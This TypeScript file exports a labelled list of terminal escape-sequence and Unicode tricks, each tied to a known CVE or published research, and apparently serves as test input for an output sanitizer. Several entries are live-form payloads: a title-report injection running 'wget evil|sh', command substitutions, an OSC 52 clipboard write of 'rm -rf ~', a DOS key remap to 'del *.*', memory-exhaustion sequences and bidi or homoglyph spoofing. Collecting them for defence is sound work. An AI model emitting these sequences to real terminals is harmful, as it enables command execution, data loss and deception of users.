/** What has been sent to terminals to make them do something, with where it was told of. */
export const terminalTricks: ReadonlyArray<readonly [name: string, text: string]> = [
	[
		'reports the window title as typed text (H D Moore, Terminal Emulator Security Issues, 2003)',
		'\u001B]2;;wget evil|sh;\u0007\u001B[21t',
	],
	[
		'writes the screen to a file (rxvt and Eterm, CVE-2003-0021, CVE-2003-0022)',
		'\u001B]55;/tmp/owned\u0007',
	],
	['runs a command by a menu (rxvt, CVE-2003-0023)', '\u001B]10;[:/Menu]\u0007'],
	[
		'sets a font by OSC 50, and is answered (xterm, CVE-2022-45063)',
		'\u001B]50;i\u0024(touch /tmp/owned)\u0007\u001B]50;?\u0007',
	],
	[
		'asks with DECRQSS and is answered with it (xterm, CVE-2008-2383)',
		'\u001BP$q\nbad-command\n\u001B\\',
	],
	['asks with DECRQSS, in mintty and others (CVE-2022-47583)', '\u001BP$q$(calc)\u001B\\'],
	[
		'asks for the screen’s size in tmux’s way (iTerm2, CVE-2019-9535)',
		'\u001BP1000p%output %0 owned\r\n\u001B\\',
	],
	[
		'answers with what it was given (iTerm2, CVE-2024-38395 and -38396)',
		'\u001B[>0;276;0c\u001B]L$(evil)\u001B\\\u001B[21t',
	],
	[
		'opens a file by a link (kitty, CVE-2020-35605)',
		'\u001B_Ga=q,t=f,i=1;L3RtcC8kKHRvdWNoKQ==\u001B\\',
	],
	[
		'starts a program by OSC 8 (kitty, CVE-2022-41322)',
		'\u001B]8;;x-evil:$(touch)\u001B\\click\u001B]8;;\u001B\\',
	],
	['changes the clipboard (OSC 52)', '\u001B]52;c;cm0gLXJmIH4K\u0007'],
	['asks for the clipboard (OSC 52)', '\u001B]52;c;?\u0007'],
	['maps a key to a command (ANSI.SYS’s key redefinition, 1980s)', '\u001B[13;"del *.*";13p'],
	['fills memory by repeating (REP)', 'a\u001B[2147483647b'],
	[
		'fills memory by a long sequence (David Leadbeater, Terminally Owned, 2023)',
		`\u001B[${'1;'.repeat(5000)}m`,
	],
	['moves up and writes over what was there', 'fine\u001B[5A\u001B[2Kevil'],
	['hides itself (conceal, invisible ink)', '\u001B[8mhidden\u001B[28m'],
	['clears what scrolled by', '\u001B[3J\u001B[2J\u001B[H'],
	['swaps the characters (line drawing, SO)', '\u001B(0abc\u000E'],
	['resets the terminal', '\u001Bc'],
	['is a notification (OSC 9, OSC 777, OSC 99)', '\u001B]777;notify;a;b\u0007\u001B]99;;x\u001B\\'],
	['draws a picture (sixel)', '\u001BPq#0;2;0;0;0~~@@\u001B\\'],
	['downloads a file (iTerm2’s OSC 1337)', '\u001B]1337;File=name=L2V0Yy9wYXNzd2Q=:AAAA\u0007'],
	['sets a colour and asks for it (OSC 4, OSC 11)', '\u001B]4;0;?\u0007\u001B]11;?\u001B\\'],
	[
		'comes in eight bits (CSI, OSC, DCS, APC)',
		'\u009B31m\u009D0;owned\u009C\u0090q\u009C\u009Fevil\u009C',
	],
	['does not end', '\u001B]0;and so on'],
	['stands in another one', '\u001B[3\u001B[31m1mred'],
	['ends early, by CAN and SUB', '\u001B[3\u0018owned\u001B[3\u001Aowned'],
	['is put together of what is left', '\u001B\u200B[31mred\u001B\u00AD]0;t\u0007'],
	['rings, backspaces, returns', 'safe\u0007\b\b\b\bevil\rover'],
	[
		'reverses what is read (Trojan Source, CVE-2021-42574)',
		'access\u202E\u2066// admin\u2069 \u2066if',
	],
	['looks like another name, and holds what nobody sees (CVE-2021-42694)', 'pаypal\u200Bme'],
	['hides text in tags (ASCII smuggling, 2024)', 'hello\u{E0069}\u{E0067}\u{E006E}'],
	['hides bytes in variation selectors (Paul Butler, 2025)', 'hi\u{E0101}\u{E0154}\uFE01\uFE03'],
	['is nothing at all (Hangul filler, as in a name of nobody)', 'a\u3164\u115F\u1160\uFFA0b'],
	['climbs over the lines above (Zalgo)', `z${'\u0300\u0489\u033F'.repeat(40)}`],
	['breaks lines without line feeds', 'one\u2028two\u2029three\u0085four\u000Bfive\u000Csix'],
	['is no character', 'a\uFFFE\uFFFF\uFDD0\u{1FFFE}b'],
];
